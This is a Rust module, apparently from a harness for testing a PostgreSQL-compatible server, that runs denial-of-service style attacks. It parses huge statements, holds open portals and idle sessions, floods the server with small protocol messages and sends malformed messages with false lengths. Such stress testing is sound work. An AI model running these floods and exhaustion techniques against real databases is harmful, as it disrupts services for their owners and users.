//! SQL sessions that keep statements and portals, or send small messages without end.

use std::io::Write;
use std::time::Duration;

use super::LONG_TEXT_BYTES;
use crate::answers::ServerAnswer;
use crate::attack::AttackRun;
use crate::dial::RUDE;
use crate::native::lost;
use crate::postgres::{Postgres, bind, execute, framed, parse, sync};
use crate::target::PASSWORD;

/// Number of sessions held.
const SESSIONS: usize = 16;
/// Statements and portals that one session may keep.
const KEPT: usize = 256;

/// Parses statements of 15 MiB and keeps them.
pub(crate) fn long_parses(run: &AttackRun) -> Result<(), ServerAnswer> {
    let filling = "a".repeat(LONG_TEXT_BYTES);
    let mut held = Vec::new();
    'sessions: for _ in 0..SESSIONS {
        let mut postgres = Postgres::login(&run.target, run.role)?;
        for n in 0..KEPT {
            if !run.round() {
                held.push(postgres);
                break 'sessions;
            }
            let messages = [parse(&format!("s{n}"), &format!("SELECT {n} /* {filling} */")), sync()].concat();
            let mut refused = false;
            let outcome = postgres.exchange(&messages, |answer| {
                refused |= answer.is_error();
                run.record(answer);
            });
            if let Err(answer) = outcome {
                run.record(answer);
                continue 'sessions;
            }
            if refused {
                break;
            }
        }
        held.push(postgres);
    }
    run.hold(|| {});
    Ok(())
}

/// Fetches once from portals and never closes them.
pub(crate) fn open_portals(run: &AttackRun) -> Result<(), ServerAnswer> {
    let mut held = Vec::new();
    'sessions: for _ in 0..SESSIONS {
        let mut postgres = Postgres::login(&run.target, run.role)?;
        let text = "SELECT x, repeat('x', 1000) FROM generate_series(1, 100000) AS t(x) ORDER BY x DESC";
        // One transaction, so that portals outlive the answer.
        postgres.query("BEGIN")?;
        postgres.send(&parse("s", text))?;
        for n in 0..KEPT {
            if !run.round() {
                held.push(postgres);
                break 'sessions;
            }
            let portal = format!("p{n}");
            // Flush instead of Sync, to stay in the transaction.
            let messages = [bind(&portal, "s"), execute(&portal, 1), framed(b'H', b"")].concat();
            postgres.send(&messages)?;
            let answer = loop {
                match postgres.message() {
                    Ok(message) => match message.answer() {
                        Some(answer) if answer.label == "parsed" => {}
                        Some(answer) => break answer,
                        None => {}
                    },
                    Err(answer) => break answer,
                }
            };
            let over = answer.is_error();
            run.record(answer);
            if over {
                break;
            }
        }
        held.push(postgres);
    }
    run.hold(|| {});
    Ok(())
}

/// Sends Sync, Flush, Close, SHOW and empty queries without end, and reads the answers.
pub(crate) fn small_messages(run: &AttackRun) -> Result<(), ServerAnswer> {
    let close = framed(b'C', b"Snothing\0");
    let show = crate::postgres::query("SHOW service_level");
    let round =
        [sync(), framed(b'H', b""), close, sync(), show, crate::postgres::query("")].concat().repeat(256);
    let mut postgres = Postgres::login(&run.target, run.role)?;
    let mut sends = postgres.stream.try_clone().map_err(|error| lost(&error))?;
    std::thread::scope(|scope| {
        scope.spawn(move || {
            while run.round() && sends.write_all(&round).is_ok() {}
            drop(sends.shutdown(std::net::Shutdown::Write));
        });
        loop {
            match postgres.message() {
                Ok(message) => {
                    if let Some(answer) = message.answer() {
                        run.record(answer);
                    }
                }
                // The end of the flood closes the connection.
                Err(answer) if answer.label == crate::answers::CLOSED => break,
                Err(answer) => {
                    run.record(answer);
                    break;
                }
            }
        }
    });
    Ok(())
}

/// Opens sessions that do nothing, as many as the server allows.
pub(crate) fn idle_sessions(run: &AttackRun) -> Result<(), ServerAnswer> {
    let mut held = Vec::new();
    while run.round() && held.len() < 4 * KEPT {
        let mut postgres = Postgres::open_for(&run.target, RUDE, Duration::from_secs(10))?;
        match postgres.log_in(run.role.name(), PASSWORD) {
            Ok(()) => held.push(postgres),
            Err(answer) => {
                run.record(answer);
                break;
            }
        }
    }
    run.hold(|| {});
    Ok(())
}

/// Binds and executes statements that were never parsed, with false lengths.
pub(crate) fn odd_messages(run: &AttackRun) -> Result<(), ServerAnswer> {
    let odd: [Vec<u8>; 6] = [
        [bind("p", "nothing"), execute("p", 0), sync()].concat(),
        // Parameter counts of 32,767 without parameters.
        [framed(b'B', b"\0\0\0\0\x7F\xFF"), sync()].concat(),
        [framed(b'P', b"\0SELECT 1\0\x7F\xFF"), sync()].concat(),
        // Texts without an end.
        [framed(b'Q', b"SELECT 1"), sync()].concat(),
        [framed(b'D', b"Zx\0"), sync()].concat(),
        [framed(b'd', b"copy"), framed(b'c', b""), sync()].concat(),
    ];
    let mut n = 0;
    while run.round() {
        let mut postgres = Postgres::login(&run.target, run.role)?;
        postgres.send(&odd[n % odd.len()])?;
        n += 1;
        // Some messages end the session, others only the statement.
        let outcome = postgres.until_ready(|answer| run.record(answer));
        if let Err(answer) = outcome {
            run.record(answer);
        }
    }
    Ok(())
}
